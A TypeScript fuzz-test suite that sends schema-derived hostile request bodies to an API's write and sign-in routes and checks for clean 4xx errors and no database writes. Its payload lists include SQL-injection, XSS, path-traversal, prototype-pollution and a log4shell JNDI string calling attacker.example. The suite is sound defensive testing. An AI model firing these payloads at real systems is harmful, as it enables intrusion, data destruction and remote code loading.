/**
 * The bad-input suite (issue 18): for every write route with a JSON body — the signed-in ones of the route
 * table and the public sign-in and reset calls — at least 500 hostile bodies generated with fast-check from the
 * route's OpenAPI request schema: wrong types, missing required fields, too long / too short / malformed /
 * out-of-range values, whole bodies that are not objects or not JSON, prototype-pollution keys, with extra keys
 * and SQL, HTML, script, unicode and huge text around them. Each must be answered 4xx in the one error shape
 * without internals, and a snapshot of every table taken before and after a route's cases proves nothing was
 * written. Prints the cases tried and how many were 5xx (goal 0). BAD_INPUT_RUNS sets the cases per route.
 */
import { errorBodySchema, generateRequestId, SINGLE_LINE_FORMAT, type Tokens } from '@hcp/contract';
import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from './support/app.ts';
import { injectAs } from './support/auth.ts';
import { TEST_NOW } from './support/constants.ts';
import { type Fixture, ROWS, setUpRouteTable, WHO, type Who } from './support/route-table.ts';

const RUNS = Number(process.env.BAD_INPUT_RUNS ?? 500);

interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  minItems?: number;
  maxItems?: number;
  default?: unknown;
  /** OpenAPI 3.0's way of saying null is allowed too. */
  nullable?: boolean;
}

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

interface Target {
  name: string;
  method: string;
  url: string;
  base: Record<string, Json>;
  schema: JsonSchema;
  send: (method: string, url: string, payload: string) => Promise<{ statusCode: number; body: string }>;
}

// ---- hostile values ----------------------------------------------------------------------------------------

const HOSTILE_TEXT = [
  "' OR '1'='1' --",
  "'; drop table prescriptions; --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, literally.
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '\u0000\u0001\u0002',
  '\u202eevil\u202c',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ☃ ❤ 中文 العربية',
  '2026-02-30',
  '99/99/9999',
  '0000-00-00',
  'NaN',
  'Infinity',
  'null',
  'undefined',
  '{"$gt": ""}',
  ' ',
  '',
];
/** What no string of any request may hold (issue 43): each makes a valid text invalid wherever it stands. */
const UNSAFE_TEXT = ['\u0000', '\u0007', '\u001b[2J', '\ud800', '\udfff', 'a\u0000b'];
/** Days shaped like YYYY-MM-DD that the calendar does not have (`format: date` fields): refused, never rolled over. */
const IMPOSSIBLE_DAYS = [
  '2026-02-30',
  '2026-02-29',
  '2100-02-29',
  '2026-04-31',
  '2026-13-01',
  '2026-00-10',
  '2026-01-00',
  '0000-01-01',
];
/** What a one-line field (`format: single-line` in the OpenAPI document: names, address lines) may not hold either. */
const NOT_ONE_LINE = ['\r\n', '\n', '\t', '\u202e', '\u2066', '\u200f', '\u0085'];
const isSingleLine = (schema: JsonSchema): boolean =>
  schema.format === SINGLE_LINE_FORMAT || (schema.anyOf ?? schema.oneOf ?? schema.allOf ?? []).some(isSingleLine);
const hugeText = fc.constantFrom('A'.repeat(70_000), '☃'.repeat(20_000), `${'x'.repeat(5_000)}\n`.repeat(20));
const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: hugeText },
);
/** Text that is not a number even to a form's "number typed as text" rule. */
const nonNumericString = hostileString.filter((s) => s.trim() === '' || !Number.isFinite(Number(s)));
const hostileKey = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', '$where', 'toString', 'valueOf', "'; --", '<b>', ''),
  fc.string({ maxLength: 12 }),
);
const hostileNumber = fc.oneof(
  fc.constantFrom(-1, 0, -2_147_483_649, 2_147_483_648, Number.MAX_SAFE_INTEGER + 2, -1e308, 1e308, 0.5, -0.000001),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);
const nested: fc.Arbitrary<Json> = fc.letrec<{ node: Json }>((tie) => ({
  node: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('node'), { maxLength: 3 }),
    fc.dictionary(hostileKey, tie('node'), { maxKeys: 3 }),
  ),
})).node;
const deepObject = fc.integer({ min: 20, max: 200 }).map((depth) => {
  let value: Json = 'bottom';
  for (let i = 0; i < depth; i += 1) value = { a: value };
  return value;
});

/** A JSON value of a type the schema does not allow (null when every type is allowed or it cannot tell). */
function typesOf(schema: JsonSchema): Set<string> | null {
  const union = schema.anyOf ?? schema.oneOf;
  if (union) {
    const all = new Set<string>();
    for (const part of union) {
      const types = typesOf(part);
      if (!types) return null;
      for (const t of types) all.add(t);
    }
    return all;
  }
  if (schema.allOf?.[0]) return typesOf(schema.allOf[0]);
  if (schema.type) {
    const types = new Set(Array.isArray(schema.type) ? schema.type : [schema.type]);
    if (schema.nullable) types.add('null');
    return types;
  }
  if (schema.enum) return new Set(schema.enum.map((v) => (v === null ? 'null' : typeof v)));
  if (schema.const !== undefined) return new Set([schema.const === null ? 'null' : typeof schema.const]);
  return null;
}

function wrongTypeValue(allowed: Set<string>): fc.Arbitrary<Json> | null {
  const numeric = allowed.has('number') || allowed.has('integer');
  const options: fc.Arbitrary<Json>[] = [];
  if (!allowed.has('string')) options.push(numeric ? nonNumericString : hostileString);
  if (!numeric) options.push(hostileNumber);
  if (!allowed.has('boolean')) options.push(fc.boolean());
  if (!allowed.has('null')) options.push(fc.constant(null));
  if (!allowed.has('array')) options.push(fc.array(nested, { maxLength: 4 }));
  if (!allowed.has('object')) options.push(fc.dictionary(hostileKey, nested, { maxKeys: 4 }), deepObject);
  return options.length ? fc.oneof(...options) : null;
}

/** A value of the right type that breaks one of the schema's own limits, when it states one. */
function outOfBoundsValue(schema: JsonSchema): fc.Arbitrary<Json> | null {
  const options: fc.Arbitrary<Json>[] = [];
  if (schema.maxLength !== undefined) {
    const over = schema.maxLength + 1;
    options.push(fc.constantFrom('x', '☃', 'A', "'").map((c) => c.repeat(over + 50)));
  }
  if (schema.minLength !== undefined && schema.minLength > 0) options.push(fc.constant(''));
  if (schema.enum) {
    const allowed = new Set(schema.enum);
    options.push(hostileString.filter((s) => !allowed.has(s)));
  }
  if (schema.format === 'uuid' || schema.format === 'email' || schema.pattern) {
    const re = schema.pattern ? new RegExp(schema.pattern) : null;
    const looksValid = (s: string) =>
      schema.format === 'uuid'
        ? /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i.test(s)
        : schema.format === 'email'
          ? /^[^@\s]+@[^@\s]+\.[a-z]{2,}$/i.test(s)
          : Boolean(re?.test(s));
    options.push(hostileString.filter((s) => !looksValid(s)));
  }
  const min = schema.minimum ?? schema.exclusiveMinimum;
  const max = schema.maximum ?? schema.exclusiveMaximum;
  if (min !== undefined) options.push(fc.integer({ min: 1, max: 1_000_000 }).map((d) => min - d));
  if (max !== undefined) options.push(fc.integer({ min: 1, max: 1_000_000 }).map((d) => max + d));
  if (schema.type === 'integer') options.push(fc.constantFrom(0.5, 1.25, -3.75));
  if (schema.maxItems !== undefined)
    options.push(fc.array(nested, { minLength: schema.maxItems + 1, maxLength: schema.maxItems + 3 }));
  if (schema.minItems !== undefined && schema.minItems > 0) options.push(fc.constant([]));
  return options.length ? fc.oneof(...options) : null;
}

interface Leaf {
  path: string[];
  schema: JsonSchema;
  required: boolean;
}

/** Every property the valid body has, with its schema (into nested objects). */
function leavesOf(schema: JsonSchema, value: Json, path: string[] = []): Leaf[] {
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return [];
  // Of a union, the branch the valid body takes (its required keys are all there): the others' keys are extra.
  const branch = schema.properties
    ? schema
    : (schema.anyOf ?? schema.oneOf)?.find((s) => s.properties && (s.required ?? []).every((k) => k in value));
  const properties = branch?.properties;
  if (!properties) return [];
  const required = new Set(branch?.required ?? []);
  return Object.entries(properties).flatMap(([key, child]) => {
    const here: Leaf = { path: [...path, key], schema: child, required: required.has(key) };
    const inner = key in value ? leavesOf(child, (value as Record<string, Json>)[key] as Json, [...path, key]) : [];
    return [here, ...inner];
  });
}

const clone = <T>(value: T): T => structuredClone(value);
const valueAt = (body: Json, path: string[]): Json | undefined =>
  path.reduce<Json | undefined>(
    (node, key) => (node && typeof node === 'object' && !Array.isArray(node) ? (node as Record<string, Json>)[key] : undefined),
    body,
  );
function setAt(body: Record<string, Json>, path: string[], value: Json | undefined) {
  let node = body as Record<string, Json>;
  for (const key of path.slice(0, -1)) {
    const next = node[key];
    if (typeof next !== 'object' || next === null || Array.isArray(next)) return;
    node = next;
  }
  const last = path.at(-1) as string;
  if (value === undefined) delete node[last];
  else Object.defineProperty(node, last, { value, enumerable: true, writable: true, configurable: true });
}

/** One hostile request body (JSON text) that the schema must refuse, for this route. */
function badBodies(target: Target): fc.Arbitrary<{ kind: string; text: string }> {
  const leaves = leavesOf(target.schema, target.base);
  const breakers: fc.Arbitrary<{ kind: string; body: Json }>[] = [];
  for (const leaf of leaves) {
    const wrong = (() => {
      const allowed = typesOf(leaf.schema);
      return allowed ? wrongTypeValue(allowed) : null;
    })();
    if (wrong) breakers.push(wrong.map((v) => withValue(target.base, leaf.path, v, 'wrong type')));
    const bounds = outOfBoundsValue(leaf.schema);
    if (bounds) breakers.push(bounds.map((v) => withValue(target.base, leaf.path, v, 'out of bounds')));
    if (leaf.required && leaf.schema.default === undefined) {
      breakers.push(fc.constant(withValue(target.base, leaf.path, undefined, 'missing')));
    }
    // Issue 43: the valid text of a string field with what no text may hold (NUL, a control character, a lone
    // surrogate) somewhere in it; or, in a single-line field, a line break or a text-direction override.
    const valid = valueAt(target.base, leaf.path);
    if (typeof valid === 'string') {
      breakers.push(
        fc
          .tuple(fc.constantFrom(...UNSAFE_TEXT), fc.nat(valid.length))
          .map(([poison, at]) => withValue(target.base, leaf.path, valid.slice(0, at) + poison + valid.slice(at), 'unsafe text')),
      );
      if (leaf.schema.format === 'date' || (leaf.schema.anyOf ?? []).some((branch) => branch.format === 'date')) {
        breakers.push(fc.constantFrom(...IMPOSSIBLE_DAYS).map((day) => withValue(target.base, leaf.path, day, 'no such day')));
      }
      if (isSingleLine(leaf.schema)) {
        // Inside the text, not at its ends: the field is trimmed, so a break at an end would be taken away.
        breakers.push(
          fc
            .tuple(fc.constantFrom(...NOT_ONE_LINE), fc.integer({ min: 1, max: Math.max(1, valid.length - 1) }))
            .map(([poison, at]) =>
              withValue(target.base, leaf.path, `${valid.slice(0, at)}${poison}${valid.slice(at)}`, 'not one line'),
            ),
        );
      }
    }
  }
  const notAnObject = fc
    .oneof(hostileString, hostileNumber, fc.boolean(), fc.constant(null), fc.array(nested, { maxLength: 4 }))
    .map((body) => ({ kind: 'not an object', body }));
  breakers.push(notAnObject);
  const breaker = fc.oneof(...breakers);

  // Around the break: extra keys with hostile values, and hostile text in free-text fields that stay valid.
  const noisy = fc
    .tuple(breaker, fc.dictionary(hostileKey, nested, { maxKeys: 3 }), fc.boolean())
    .map(([{ kind, body }, extra, addExtra]) => {
      if (!addExtra || typeof body !== 'object' || body === null || Array.isArray(body))
        return { kind, text: JSON.stringify(body) };
      const merged = clone(body);
      for (const [key, value] of Object.entries(extra)) {
        if (!(key in target.base))
          Object.defineProperty(merged, key, { value, enumerable: true, writable: true, configurable: true });
      }
      return { kind: `${kind} + extra keys`, text: JSON.stringify(merged) };
    });
  // Raw texts no JSON parser should accept, and the classic pollution payloads (refused by the parser).
  const raw = fc.oneof(
    fc.constantFrom('{"a":', '{', '[', 'undefined', "{'single': 'quotes'}", '{"a":1,}', '\u0000', '').map((text) => ({
      kind: 'not JSON',
      text,
    })),
    fc
      .constantFrom(
        '{"__proto__":{"isAdmin":true}}',
        '{"constructor":{"prototype":{"isAdmin":true}}}',
        '{"a":{"__proto__":{"polluted":1}}}',
      )
      .map((text) => ({ kind: 'prototype pollution', text })),
  );
  return fc.oneof({ weight: 8, arbitrary: noisy }, { weight: 1, arbitrary: raw });
}

function withValue(base: Record<string, Json>, path: string[], value: Json | undefined, kind: string) {
  const body = clone(base);
  setAt(body, path, value);
  return { kind: `${kind} ${path.join('.')}`, body: body as Json };
}

// ---- the database before and after --------------------------------------------------------------------------

/**
 * The next transaction id the database will hand out: it moves only when a transaction writes (or tried to, and
 * rolled back). While it stands still nothing can have changed, and the whole-database hash below is not needed.
 */
async function nextTransactionId(t: TestApp): Promise<string> {
  const result = (await t.database.db.execute(sql`select pg_snapshot_xmax(pg_current_snapshot())::text as xid`)) as unknown as {
    rows: { xid: string }[];
  };
  return result.rows[0]?.xid ?? '';
}

async function snapshot(t: TestApp): Promise<Record<string, string>> {
  const tables = (await t.database.db.execute(
    sql`select table_name as name from information_schema.tables
      where table_schema = 'public' and table_type = 'BASE TABLE' and table_name not like '__drizzle%' order by 1`,
  )) as unknown as { rows: { name: string }[] };
  const out: Record<string, string> = {};
  for (const { name } of tables.rows) {
    const result = (await t.database.db.execute(
      sql.raw(
        `select count(*)::text || ':' || coalesce(md5(string_agg(x::text, '|' order by x::text)), '') as h from "${name}" x`,
      ),
    )) as unknown as { rows: { h: string }[] };
    out[name] = result.rows[0]?.h ?? '';
  }
  return out;
}

// ---- the routes ---------------------------------------------------------------------------------------------

let t: TestApp;
let tokens: Record<Who, Tokens>;
let fixture: Fixture;
interface Operation {
  requestBody?: { content?: Record<string, { schema?: JsonSchema }> };
  parameters?: { in: string; name: string; schema?: JsonSchema }[];
}
let doc: { paths: Record<string, Record<string, Operation>> };
const totals = { routes: 0, cases: 0, status5xx: 0, byStatus: new Map<number, number>() };

beforeAll(async () => {
  t = await buildTestApp({ now: () => TEST_NOW, env: { AUTH_RATE_LIMIT_PER_MINUTE: '10000000', LOG_LEVEL: 'error' } });
  ({ tokens, fixture } = await setUpRouteTable(t));
  doc = (await t.app.inject({ method: 'GET', url: '/api/docs/json' })).json();
}, 120_000);
afterAll(async () => {
  const statuses = [...totals.byStatus.entries()].sort(([a], [b]) => a - b).map(([s, n]) => `${s}: ${n}`);
  process.stdout.write(
    `\nbad input: ${totals.cases} hostile bodies on ${totals.routes} write routes, ${totals.status5xx} answered 5xx (${statuses.join(', ')})\n`,
  );
  await t.close();
});

const schemaOf = (method: string, path: string): JsonSchema | undefined =>
  doc.paths[path]?.[method.toLowerCase()]?.requestBody?.content?.['application/json']?.schema;

function signedInTargets(): Target[] {
  return ROWS.filter((row) => row.body && row.method !== 'GET').flatMap((row) => {
    const who = WHO.find((w) => row.expect(w, 'own') === 'reached');
    const schema = schemaOf(row.method, row.path);
    const base = row.body?.(fixture, who ?? 'prescriber', fixture.ids.own);
    if (!who || !schema || typeof base !== 'object' || base === null) return [];
    const session = tokens[who];
    return [
      {
        name: `${row.method} ${row.path} as ${who}`,
        method: row.method,
        url: row.url(fixture, who, fixture.ids.own),
        base: base as Record<string, Json>,
        schema,
        send: (method, url, payload) =>
          injectAs(t.app, session, {
            method: method as 'POST',
            url,
            payload,
            headers: { 'content-type': 'application/json', 'x-request-id': generateRequestId() },
          }),
      },
    ];
  });
}

/** The public write calls: sign-in, code, renewal, sign-out and reset (valid-looking bases, no session). */
const PUBLIC_BASES: [string, string, Record<string, Json>][] = [
  [
    'POST',
    '/auth-service/login',
    { email: 'dr.morgan@demo.hcp', username: 'dr.morgan@demo.hcp', password: 'x', dashboard: 'MD Dashboard' },
  ],
  [
    'POST',
    '/auth/mdo/login',
    { email: 'dr.morgan@demo.hcp', username: 'dr.morgan@demo.hcp', password: 'x', dashboard: 'MD Dashboard' },
  ],
  ['POST', '/auth-service/mfa', { authToken: 'not-a-token', mfaCode: '123456', dashboard: 'MD Dashboard' }],
  ['POST', '/auth-service/mfa/passkey-options', { authToken: 'not-a-token' }],
  [
    'POST',
    '/auth-service/passkey-login',
    {
      passkey: {
        id: 'AAAA',
        rawId: 'AAAA',
        type: 'public-key',
        clientExtensionResults: {},
        response: { clientDataJSON: 'AAAA', authenticatorData: 'AAAA', signature: 'AAAA' },
      },
    },
  ],
  ['POST', '/auth/mdo/verify-2-step', { authToken: 'not-a-token', mfaCode: '123456', dashboard: 'MD Dashboard' }],
  ['POST', '/auth-service/refresh', { refreshToken: 'not-a-token', dashboard: 'MD Dashboard' }],
  ['POST', '/auth/refresh-token', { refreshToken: 'not-a-token', dashboard: 'MD Dashboard' }],
  ['POST', '/auth/user/reset-password', { email: 'dr.morgan@demo.hcp', source: 'MD' }],
  ['PUT', '/api/mdo/v1/update-password', { token: 'not-a-token', password: 'a-long-new-password' }],
  ['POST', '/auth-service/mfa/resend', { authToken: 'not-a-token', dashboard: 'MD Dashboard' }],
  ['POST', '/auth/mdo/verify-password-token', { token: 'not-a-token' }],
  ['POST', '/auth/mdo/google/not-a-google-token', { dashboard: 'MD Dashboard' }],
  ['POST', '/api/mdo/v1/appeal-auth', { npi: '1234567893', key: 'not-a-key' }],
];

function publicTargets(): Target[] {
  return PUBLIC_BASES.flatMap(([method, url, base]) => {
    const schema = schemaOf(method, url.replace('/google/not-a-google-token', '/google/{token}'));
    if (!schema) return [];
    return [
      {
        name: `${method} ${url}`,
        method,
        url,
        base,
        schema,
        send: (m, u, payload) =>
          t.app.inject({ method: m as 'POST', url: u, payload, headers: { 'content-type': 'application/json' } }),
      },
    ];
  });
}

/** Internals that must never reach an answer: stack frames, SQL, driver and file names. */
const INTERNALS = /\n\s+at |node_modules|Failed query|select |insert into|drizzle|pglite|postgres|ZodError|TypeError|\.ts:\d+/i;

describe('bad input', () => {
  it('covers every write route with a JSON body', () => {
    const documented = Object.entries(doc.paths).flatMap(([path, ops]) =>
      Object.entries(ops)
        .filter(([, op]) => op.requestBody?.content?.['application/json'])
        .map(([method]) => `${method.toUpperCase()} ${path}`),
    );
    const covered = new Set([
      ...ROWS.filter((r) => r.body).map((r) => `${r.method} ${r.path}`),
      ...PUBLIC_BASES.map(([m, u]) => `${m} ${u.replace('/google/not-a-google-token', '/google/{token}')}`),
    ]);
    // Appeal drafts, submits and file reuse carry their own appeal token (tested in appeals.test.ts); logout needs a
    // live session.
    const elsewhere = new Set([
      'POST /api/mdo/v1/appeal/{id}/save',
      'POST /api/mdo/v1/appeal/{id}/submit',
      'POST /api/mdo/v1/appeal/{id}/reuse-file',
      'POST /auth/logout',
    ]);
    expect(documented.filter((key) => !covered.has(key) && !elsewhere.has(key))).toEqual([]);
  });

  it('finds a limit in the contract for every string any request can carry (body, query and path, every route)', () => {
    // Issue 43: names took 900,000 characters. A string is bounded when the document says how: a maximum length, a
    // closed set of values, or a pattern (uuids, codes). Read from the document, so a field added tomorrow is held to it.
    const unbounded: string[] = [];
    const walk = (node: JsonSchema | undefined, where: string) => {
      if (!node || typeof node !== 'object') return;
      const bounded = node.maxLength !== undefined || node.enum || node.const !== undefined || node.pattern;
      if (node.type === 'string' && !bounded) unbounded.push(where);
      for (const [key, child] of Object.entries(node)) {
        if (child && typeof child === 'object') walk(child as JsonSchema, `${where}/${key}`);
      }
    };
    let strings = 0;
    const count = (node: unknown) =>
      JSON.stringify(node, (_k, v) => {
        if (v && typeof v === 'object' && (v as JsonSchema).type === 'string') strings += 1;
        return v;
      });
    for (const [path, ops] of Object.entries(doc.paths)) {
      for (const [method, op] of Object.entries(ops)) {
        const body = op.requestBody?.content?.['application/json']?.schema;
        walk(body, `${method.toUpperCase()} ${path} body`);
        count(body);
        for (const parameter of op.parameters ?? []) {
          walk(parameter.schema, `${method.toUpperCase()} ${path} ${parameter.in}.${parameter.name}`);
          count(parameter.schema);
        }
      }
    }
    expect(strings).toBeGreaterThan(300);
    expect(unbounded).toEqual([]);
  });

  it(`answers ${RUNS} hostile bodies per write route with 4xx in the error shape and writes nothing`, async () => {
    const targets = [...signedInTargets(), ...publicTargets()];
    expect(targets.length).toBeGreaterThan(30);
    const failures: string[] = [];
    // The database as the last route's cases left it: compared again (every table hashed) only when a transaction
    // has been opened for writing since, so each route's refused bodies are still proved to change nothing.
    const watched = await nextTransactionId(t);
    // The watch itself: a transaction that takes an id (here one that writes nothing and rolls back) moves it.
    await t.database.db
      .transaction(async (tx) => {
        await tx.execute(sql`select pg_current_xact_id()`);
        tx.rollback();
      })
      .catch(() => undefined);
    expect(await nextTransactionId(t)).not.toBe(watched);
    let baseline = { xid: await nextTransactionId(t), tables: await snapshot(t) };
    for (const target of targets) {
      totals.routes += 1;
      const samples = fc.sample(badBodies(target), { numRuns: RUNS, seed: 20261124 });
      for (const { kind, text } of samples) {
        const res = await target.send(target.method, target.url, text);
        totals.cases += 1;
        totals.byStatus.set(res.statusCode, (totals.byStatus.get(res.statusCode) ?? 0) + 1);
        if (res.statusCode >= 500) totals.status5xx += 1;
        const shaped = errorBodySchema.safeParse(safeJson(res.body)).success;
        if (res.statusCode < 400 || res.statusCode >= 500 || !shaped || INTERNALS.test(res.body)) {
          if (failures.filter((f) => f.startsWith(target.name)).length < 3) {
            failures.push(`${target.name} [${kind}] ${text.slice(0, 120)} -> ${res.statusCode} ${res.body.slice(0, 200)}`);
          }
        }
      }
      const xid = await nextTransactionId(t);
      if (xid !== baseline.xid) {
        const after = await snapshot(t);
        const changed = Object.keys(after).filter((table) => after[table] !== baseline.tables[table]);
        if (changed.length) failures.push(`${target.name}: tables changed by refused bodies: ${changed.join(', ')}`);
        baseline = { xid, tables: after };
      }
    }
    expect(failures).toEqual([]);
    expect(totals.status5xx).toBe(0);
  }, 1_200_000);
});

function safeJson(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return null;
  }
}
